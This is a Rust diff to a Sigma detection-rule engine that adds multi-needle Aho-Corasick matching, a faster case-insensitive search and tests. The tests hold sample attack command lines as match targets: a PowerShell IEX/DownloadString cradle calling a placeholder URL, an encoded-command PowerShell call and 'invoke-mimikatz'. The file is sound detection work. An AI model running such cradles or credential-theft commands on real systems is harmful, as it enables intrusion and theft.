@@ -507,6 +507,37 @@ enum Kind {
     Glob(Glob),
 }
 
+/// Many case-insensitive `contains` values searched in one pass: one Aho-Corasick automaton
+/// over their folded needles, built once per value list (a SigmaHQ rule may list hundreds of
+/// command-line fragments for one field; searching each on its own read the text hundreds of
+/// times). Exact where [`StringMatcher::is_match`] compares ASCII case-insensitively on the
+/// raw bytes; [`ContainsSet::is_match`] says `None` otherwise, and the caller asks each
+/// matcher.
+#[derive(Debug, Clone)]
+pub struct ContainsSet {
+    automaton: aho_corasick::AhoCorasick,
+}
+
+impl ContainsSet {
+    /// The set of the needles of `contains` matchers, from [`StringMatcher::ascii_contains`].
+    pub fn new(needles: &[&str]) -> Option<ContainsSet> {
+        aho_corasick::AhoCorasickBuilder::new()
+            .ascii_case_insensitive(true)
+            .build(needles)
+            .ok()
+            .map(|automaton| ContainsSet { automaton })
+    }
+
+    /// Whether some needle occurs in `text`, or `None` when `text` holds a character whose
+    /// fold is ASCII although it is not (`İ`, the Kelvin sign), which bytes cannot tell.
+    pub fn is_match(&self, text: &str) -> Option<bool> {
+        if !text.is_ascii() && has_ascii_folding(text) {
+            return None;
+        }
+        Some(self.automaton.is_match(text))
+    }
+}
+
 /// General pattern: `segs[0]` `*` `segs[1]` `*` ... `*` `segs[n]`. With no `*` there is a
 /// single segment that must cover the whole text.
 #[derive(Debug, Clone)]
@@ -587,6 +618,15 @@ impl StringMatcher {
                 let folded = fold_str(text);
                 self.kind.matches(&folded, false)
             }
+        }
+    }
+
+    /// The folded needle of a case-insensitive `contains` matcher whose folded pattern is
+    /// ASCII (`*needle*`): what a [`ContainsSet`] can search for it.
+    pub fn ascii_contains(&self) -> Option<&str> {
+        match &self.kind {
+            Kind::Contains(p) if !self.cased && self.ascii => Some(p),
+            _ => None,
         }
     }
 
@@ -780,26 +820,45 @@ fn find_lit<const CI: bool>(text: &str, from: usize, to: usize, needle: &str) ->
 /// The naive search did too much work.
 struct BudgetExhausted;
 
-/// Naive search of an already-lowercase needle in a haystack compared ASCII-case-insensitively,
-/// without allocation. Gives up after a few byte comparisons per haystack byte, so that the
-/// caller can switch to a linear-time search.
-fn find_ascii_ci(hay: &[u8], needle: &[u8]) -> Result<Option<usize>, BudgetExhausted> {
-    let Some((&first, rest)) = needle.split_first() else {
-        return Ok(Some(0));
-    };
-    if needle.len() > hay.len() {
-        return Ok(None);
+/// How common a byte is in the texts Sigma rules search (paths, command lines, URLs): the
+/// searcher looks for the needle's least common byte, so that SIMD `memchr` skips most of the
+/// haystack and few candidates need checking.
+fn commonness(b: u8) -> u8 {
+    match b.to_ascii_lowercase() {
+        b'\\' | b' ' | b'.' | b'-' | b'/' | b':' | b'"' | b'=' | b',' | b'_' => 255,
+        b'e' | b't' | b'a' | b'o' | b'i' | b'n' | b's' | b'r' => 200,
+        b'l' | b'c' | b'd' | b'h' | b'u' | b'm' | b'p' | b'0' | b'1' => 150,
+        b'2'..=b'9' | b'f' | b'g' | b'w' | b'y' | b'b' => 100,
+        _ => 50,
     }
-    let upper = first.to_ascii_uppercase();
+}
+
+/// Search of an already-lowercase needle in a haystack compared ASCII-case-insensitively,
+/// without allocation: SIMD `memchr2` finds the needle's least common byte in either case,
+/// then each candidate is compared. Gives up after a few byte comparisons per haystack byte
+/// (a degenerate haystack of near-matches), so that the caller can switch to a linear-time
+/// search.
+fn find_ascii_ci(hay: &[u8], needle: &[u8]) -> Result<Option<usize>, BudgetExhausted> {
+    if needle.is_empty() {
+        return Ok(Some(0));
+    }
+    let Some(last_start) = hay.len().checked_sub(needle.len()) else {
+        return Ok(None);
+    };
+    let (k, &rare) = needle
+        .iter()
+        .enumerate()
+        .min_by_key(|(_, &b)| commonness(b))
+        .unwrap_or((0, &needle[0]));
+    let (lower, upper) = (rare, rare.to_ascii_uppercase());
+    // The rare byte of a match starting at `s` is at `s + k`, `s` in `0..=last_start`.
+    let window = &hay[k..=last_start + k];
     let mut budget = hay.len().saturating_mul(4).max(256);
-    for (i, window) in hay.windows(needle.len()).enumerate() {
-        let b = window[0];
-        if b == first || b == upper {
-            if eq_bytes::<true>(&window[1..], rest) {
-                return Ok(Some(i));
-            }
-            budget = budget.checked_sub(needle.len()).ok_or(BudgetExhausted)?;
+    for at in memchr::memchr2_iter(lower, upper, window) {
+        if eq_bytes::<true>(&hay[at..at + needle.len()], needle) {
+            return Ok(Some(at));
         }
+        budget = budget.checked_sub(needle.len()).ok_or(BudgetExhausted)?;
     }
     Ok(None)
 }
@@ -1217,10 +1276,63 @@ mod tests {
     }
 
     #[test]
+    fn a_contains_set_agrees_with_its_matchers() {
+        let values = [
+            "\\cmd.exe",
+            "-EncodedCommand",
+            "İnvoke",
+            "kelvin",
+            "DownloadString",
+            "ab",
+        ];
+        let matchers: Vec<StringMatcher> = values
+            .iter()
+            .map(|v| StringMatcher::new(&SigmaString::parse(v).contains(), false).unwrap())
+            .collect();
+        // Only case-insensitive ASCII needles go into a set (`İnvoke` folds to `invoke` and
+        // stays ASCII; a cased matcher does not).
+        let needles: Vec<&str> = matchers.iter().filter_map(|m| m.ascii_contains()).collect();
+        assert_eq!(needles.len(), values.len());
+        let cased = StringMatcher::new(&SigmaString::parse("x").contains(), true).unwrap();
+        assert!(cased.ascii_contains().is_none());
+        let set = ContainsSet::new(&needles).unwrap();
+        let texts = [
+            "C:\\Windows\\System32\\CMD.EXE /c dir",
+            "powershell -encodedcommand SQBFAFgA",
+            "IEX (New-Object Net.WebClient).downloadstring('http://x')",
+            "invoke-mimikatz",
+            "nothing here",
+            "Ünïcödé but no needle",
+            "\u{212A}elvin",
+            "a\u{130}b",
+            "",
+        ];
+        for text in texts {
+            let each = matchers.iter().any(|m| m.is_match(text));
+            match set.is_match(text) {
+                Some(found) => assert_eq!(found, each, "{text:?}"),
+                // Characters whose fold is ASCII are left to the matchers.
+                None => assert!(text.chars().any(folds_to_ascii), "{text:?}"),
+            }
+        }
+        assert_eq!(set.is_match("KELVIN"), Some(true));
+        assert_eq!(set.is_match("\u{212A}elvin"), None);
+    }
+
+    #[test]
     fn degenerate_texts_use_the_linear_fallback() {
         let needle = "a".repeat(40) + "b";
         let hay = "A".repeat(10_000);
-        assert!(find_ascii_ci(hay.as_bytes(), needle.as_bytes()).is_err());
+        // The search looks for the needle's least common byte (`b`: no candidate at all)...
+        assert!(matches!(
+            find_ascii_ci(hay.as_bytes(), needle.as_bytes()),
+            Ok(None)
+        ));
+        // ... and gives up when every candidate is a near-match.
+        let common = "a".repeat(40) + "e";
+        assert!(find_ascii_ci(hay.as_bytes(), common.as_bytes()).is_err());
+        assert!(!m(&format!("*{common}*"), &hay));
+        assert!(m(&format!("*{common}*"), &format!("{hay}E")));
         let pattern = format!("*{needle}*");
         assert!(!m(&pattern, &hay));
         assert!(m(&pattern, &format!("{hay}B{hay}")));
